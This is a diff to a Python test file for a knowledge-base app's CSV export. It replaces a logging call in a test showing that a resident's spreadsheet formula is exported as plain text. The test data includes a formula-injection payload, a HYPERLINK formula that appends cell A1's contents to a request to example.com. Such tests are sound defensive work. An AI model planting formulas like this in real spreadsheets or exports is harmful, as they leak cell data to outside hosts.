@@ -13,7 +13,8 @@ from knowledge.entries import Entry
 from knowledge.exchange import export_file, import_file
 from knowledge.spreadsheet import cell_from_spreadsheet, spreadsheet_cell
 from knowledge.store import create_entry, get_entry
-from knowledge.unanswered import log_unanswered, unanswered_csv
+from knowledge.turns import record_turn
+from knowledge.unanswered import unanswered_csv
 
 HYPERLINK = '=HYPERLINK("http://example.com/?q="&A1,"点这里")'
 
@@ -38,7 +39,7 @@ def test_cells_that_would_run_are_prefixed_and_restored(text: str, cell: str) ->
 
 
 def test_a_residents_formula_reaches_the_unanswered_csv_as_text(db: Database) -> None:
-    log_unanswered(db, HYPERLINK, "fallback", "wx:someone", [])
+    record_turn(db, channel="wx", kind="fallback", resident="wx:someone", text=HYPERLINK)
     text, count = unanswered_csv(db, 10)
     rows = list(csv.reader(io.StringIO(text, newline="")))
     assert count == 1
